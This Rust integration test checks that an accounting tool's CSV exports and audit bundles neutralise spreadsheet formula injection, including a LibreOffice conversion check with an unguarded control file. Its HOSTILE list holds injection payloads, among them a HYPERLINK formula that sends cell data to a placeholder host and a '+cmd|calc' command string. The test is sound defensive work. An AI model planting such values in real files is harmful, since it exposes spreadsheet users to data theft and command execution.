//! Formula-safe files (issue 12), end to end through the binary: the one
//! guard rule of `domain::cell` is reversible and keeps spreadsheets from
//! running anything.
//!
//! - A property test: hostile text (`=HYPERLINK(…)`, `=1+2`, `@SUM(1+1)`,
//!   `+cmd|calc`, `-2`, `'quoted`, `'=x`, tab and carriage-return prefixes)
//!   in descriptions, payees, references, memos and member names; the
//!   journal export re-imported into new books gives the same fingerprint,
//!   and the auditor's bundle passes `fondo verify --bundle`.
//! - With LibreOffice (`soffice`, skipped with a clear line when it is not
//!   installed): every CSV of such a bundle, converted in one call, has no
//!   cell that became a formula, and every amount is still a number; a
//!   control file with the same text unguarded does become formulas, so
//!   the check can fail.

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::{Fund, FundBuilder, csv_rows, oracle, run_command};
use proptest::prelude::*;
use regex::Regex;

/// Text a spreadsheet would run, or that starts like the guard itself.
const HOSTILE: [&str; 12] = [
    "=HYPERLINK(\"http://x\"&A1,\"y\")",
    "=1+2",
    "@SUM(1+1)",
    "+cmd|calc",
    "-2",
    "'quoted",
    "'=x",
    "''=x",
    "\t=1+2",
    "\r=1+2",
    "-",
    "=",
];

/// Hostile text, perhaps with more after it; never blank.
fn hostile() -> impl Strategy<Value = String> {
    (0..HOSTILE.len(), "[a-z =+'@-]{0,4}")
        .prop_map(|(i, tail)| format!("{}{tail}", HOSTILE[i]))
        .prop_filter("not blank", |s| !s.trim().is_empty())
}

/// A member name: hostile, without the tab and carriage-return prefixes
/// (control characters are no part of a name).
fn hostile_name() -> impl Strategy<Value = String> {
    hostile().prop_filter("no control characters", |s| {
        !s.chars().any(char::is_control) && s.trim() == s
    })
}

/// The books every case starts from: a currency, a bank account, a pool.
fn books() -> Fund {
    FundBuilder::new()
        .currency("USD")
        .accounts(&["assets:bank", "income:dues", "expenses:supplies"])
        .setting("contribution-account", "assets:bank")
        .pool("food", "Groceries")
        .build()
}

/// Adds hostile text everywhere it can go: a member, a contribution with a
/// memo, and transactions with hostile descriptions, payees and references.
fn plant(fund: &Fund, name: &str, memo: &str, texts: &[(String, String, String)]) {
    fund.ok(&["member", "add", "--", name]);
    fund.ok(&[
        "contribute",
        "25.00",
        "USD",
        &format!("--from={name}"),
        "--pool=food",
        &format!("--memo={memo}"),
        "--date=2026-02-01",
    ]);
    for (i, (description, payee, reference)) in texts.iter().enumerate() {
        let date = format!("--date=2026-02-{:02}", i + 2);
        fund.ok(&[
            "post",
            &date,
            &format!("--payee={payee}"),
            &format!("--reference={reference}"),
            "--pool=food",
            "-p",
            "expenses:supplies=1.50 USD",
            "-p",
            "assets:bank",
            "--",
            description,
        ]);
    }
}

/// Exports the auditor's bundle of 2026 into `name`; returns its path.
fn bundle(fund: &Fund, name: &str) -> PathBuf {
    let dir = fund.path(name);
    let out = dir.display().to_string();
    fund.ok(&[
        "export",
        "audit",
        "--out",
        &out,
        "--audience",
        "auditor",
        "--period",
        "2026",
    ]);
    dir
}

fn assert_bundle_verifies(dir: &Path) {
    let mut cmd = common::command();
    cmd.args(["verify", "--bundle"]).arg(dir);
    let run = run_command(&mut cmd);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 8, max_shrink_iters: 50, ..ProptestConfig::default() })]

    #[test]
    fn hostile_text_comes_back_exactly_from_the_export_and_the_bundle(
        name in hostile_name(),
        memo in hostile(),
        texts in prop::collection::vec((hostile(), hostile(), hostile()), 1..4),
    ) {
        let fund = books();
        plant(&fund, &name, &memo, &texts);

        let export = fund.export();
        // Nothing in the export starts a cell a spreadsheet would run.
        for row in csv_rows(&export) {
            for cell in row {
                prop_assert!(
                    !cell.starts_with(['=', '@', '\t', '\r']),
                    "unguarded cell {:?}", cell
                );
            }
        }
        let other = Fund::init(Some("USD"));
        other.ok(&["pool", "add", "food", "--purpose", "Groceries"]);
        other.import_text("journal.csv", &export, &[]).ok();
        prop_assert_eq!(other.fingerprint(), fund.fingerprint());
        prop_assert_eq!(other.export(), export);

        assert_bundle_verifies(&bundle(&fund, "bundle"));
    }
}

/// The cells of a flat OpenDocument spreadsheet, per table (named after the
/// file converted) and row, each as its opening tag's attributes, column
/// repeats spelled out.
fn cells(fods: &str) -> Vec<Vec<String>> {
    let row = Regex::new(r"(?s)<table:table-row[^>]*>(.*?)</table:table-row>").unwrap();
    let cell = Regex::new(
        r"(?s)<table:(?:covered-)?table-cell([^>]*?)(?:/>|>.*?</table:(?:covered-)?table-cell>)",
    )
    .unwrap();
    let repeated = Regex::new(r#"table:number-columns-repeated="(\d+)""#).unwrap();
    row.captures_iter(fods)
        .map(|r| {
            let mut cells = Vec::new();
            for c in cell.captures_iter(&r[1]) {
                let attributes = c[1].to_owned();
                let times = repeated
                    .captures(&attributes)
                    .map_or(1, |n| n[1].parse().unwrap());
                cells.extend(std::iter::repeat_n(attributes, times));
            }
            cells
        })
        .collect()
}

/// Converts every CSV file in `dir` to a flat OpenDocument spreadsheet with
/// one call of LibreOffice, reading them as UTF-8 with commas and quotes
/// as written; returns each file's cells by file name.
fn convert(soffice: &Path, dir: &Path, work: &Path) -> BTreeMap<String, Vec<Vec<String>>> {
    let csvs: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "csv"))
        .collect();
    let out = work.join("converted");
    let profile = format!(
        "-env:UserInstallation=file://{}",
        work.join("profile").display()
    );
    let status = Command::new(soffice)
        .arg(profile)
        .args([
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
        ])
        .arg("--outdir")
        .arg(&out)
        .args(&csvs)
        .output()
        .unwrap();
    assert!(status.status.success(), "{status:?}");
    csvs.iter()
        .map(|csv| {
            let stem = csv.file_stem().unwrap().to_string_lossy().into_owned();
            let fods = std::fs::read_to_string(out.join(format!("{stem}.fods")))
                .unwrap_or_else(|e| panic!("{stem}.fods: {e}"));
            (format!("{stem}.csv"), cells(&fods))
        })
        .collect()
}

#[test]
fn libreoffice_runs_no_cell_of_a_bundle_and_keeps_amounts_numbers() {
    let Some(soffice) = oracle("soffice", "apt-get install libreoffice-calc") else {
        return;
    };
    let fund = books();
    let texts: Vec<(String, String, String)> = HOSTILE
        .iter()
        .map(|t| ((*t).to_owned(), (*t).to_owned(), (*t).to_owned()))
        .collect();
    plant(
        &fund,
        "=HYPERLINK(\"http://x\"&A1,\"y\")",
        "@SUM(1+1)",
        &texts,
    );
    let dir = bundle(&fund, "bundle");
    assert_bundle_verifies(&dir);
    // The control: the same text unguarded, which LibreOffice does run.
    let control = fund.path("control");
    std::fs::create_dir(&control).unwrap();
    std::fs::write(
        control.join("control.csv"),
        "a,b\n=1+2,\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"y\"\")\"\n",
    )
    .unwrap();
    std::fs::copy(dir.join("journal.csv"), control.join("journal.csv")).unwrap();
    let mut sheets = convert(&soffice, &dir, &fund.path("lo"));
    let control_sheet = convert(&soffice, &control, &fund.path("lo-control"));
    assert!(
        control_sheet["control.csv"][1]
            .iter()
            .all(|c| c.contains("table:formula=")),
        "LibreOffice did not run the control's formulas: {:?}",
        control_sheet["control.csv"]
    );
    // The converted journal is the same whichever directory it came from.
    assert_eq!(control_sheet["journal.csv"], sheets["journal.csv"]);

    assert!(sheets.len() >= 10, "{:?}", sheets.keys());
    let mut amounts = 0;
    for (file, sheet) in &mut sheets {
        let text = std::fs::read_to_string(dir.join(file)).unwrap();
        let rows = csv_rows(&text);
        let header = text.lines().next().unwrap().split(',').collect::<Vec<_>>();
        for (r, row) in rows.iter().enumerate() {
            // csv_rows leaves out the header; the sheet has it as row 0.
            let cells = &sheet[r + 1];
            for (c, value) in row.iter().enumerate() {
                let cell = cells.get(c).map_or("", String::as_str);
                assert!(
                    !cell.contains("table:formula="),
                    "{file} row {} column {}: {value:?} became a formula: {cell}",
                    r + 2,
                    header[c]
                );
                if !value.is_empty()
                    && (header[c] == "amount" || fondo::domain::cell::is_plain_number(value))
                {
                    if header[c] == "amount" {
                        amounts += 1;
                    }
                    assert!(
                        cell.contains(r#"office:value-type="float""#),
                        "{file} row {} column {}: {value:?} is no number: {cell}",
                        r + 2,
                        header[c]
                    );
                }
            }
        }
    }
    // The contribution and every transaction's two postings.
    assert!(amounts >= 2 * HOSTILE.len() + 2, "{amounts} amounts");
}
